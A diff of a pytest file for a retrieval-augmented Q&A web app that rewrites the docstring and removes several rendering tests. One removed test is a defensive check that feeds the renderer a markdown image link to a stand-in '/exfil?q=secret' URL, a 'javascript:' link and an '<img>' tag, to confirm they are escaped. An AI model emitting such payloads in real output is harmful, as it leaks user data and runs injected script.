@@ -1,20 +1,14 @@
-"""What the page shows, without a browser: the warm-up line, and how the passages are headed."""
+"""What the app shows without a browser: the warm-up line, the question as echoed, the backends offered."""
 
 from __future__ import annotations
 
 import pytest
 from app_fixtures import GRADIO_QUEUE_PANDAS_WARNINGS
 
-from rag.corpus import Chunk
 from rag.embed import ModelError
-from rag.events import Hit, Progress, Status
-from rag.generate import NOT_FOUND
-from rag.session import AnswerView
+from rag.events import Progress, Status
 
 pytestmark = pytest.mark.filterwarnings(GRADIO_QUEUE_PANDAS_WARNINGS)
-
-TEXT = "Text is flushed in pieces."
-HITS = (Hit(Chunk("buffered.md#0", "Buffered streaming", "Buffers", "buffered.md", 0, len(TEXT), TEXT), 1, 0.9),)
 
 
 def test_warming_up_says_ready_in_one_update_when_the_app_is_warm(app_module, kb):
@@ -46,42 +40,6 @@ def test_warming_up_says_when_the_model_cannot_load(app_module, monkeypatch):
 
     *_, last = app_module.warming_up()
     assert last == "Could not load the documents: missing-model &lt;is not installed&gt;"
-
-
-def view(answer: str, *, finished: bool, stopped: bool = False, error: str = "") -> AnswerView:
-    return AnswerView("", answer, HITS, {}, error, stopped, finished)
-
-
-@pytest.mark.parametrize(
-    ("answer_view", "role"),
-    [
-        (view("Text is flushed in pieces. [1]", finished=True), "sources"),
-        (view("Text is flushed in pieces. [1]", finished=False), "sources"),
-        (view(NOT_FOUND, finished=True), "unused"),
-        (view("Text is flushed", finished=False), "found"),
-        (view("Text is flushed", finished=True, stopped=True), "found"),
-        (view("Half of", finished=True, error="the server hung up"), "found"),
-        (view("See [7].", finished=True), "unused"),  # cites no passage that was retrieved
-    ],
-)
-def test_the_passages_are_sources_only_once_the_answer_cites_one(app_module, answer_view, role):
-    assert app_module.passages_role(answer_view) == role
-
-
-def test_passages_the_answer_did_not_use_are_headed_so(app_module):
-    shown = app_module.sources_html("Capital of Peru?", HITS, (), "unused")
-    assert "<h2>Closest passages (not used)</h2>" in shown and "Sources" not in shown
-    assert app_module.sources_html("Q?", HITS, (), "found").startswith('<div class="sources found"><h2>Passages found')
-
-
-def test_an_answer_never_becomes_a_markdown_image_link_or_html(app_module):
-    answer = "See ![chart](http://127.0.0.1:9/exfil?q=secret) and [click](javascript:alert(1)) <img src=x> [1]"
-    view = AnswerView("", answer, HITS, {}, "", False, True)
-    markdown = app_module.answer_markdown(view)
-    assert "![" not in markdown and "](" not in markdown.replace("\\](", ""), markdown
-    assert "<img" not in markdown
-    so_far = app_module.answer_markdown(AnswerView("", answer[:30], HITS, {}, "", False, False))
-    assert markdown.startswith(so_far), "escaping must keep a growing answer growing by appends"
 
 
 def test_a_huge_question_is_cut_before_the_page_echoes_it(app_module):
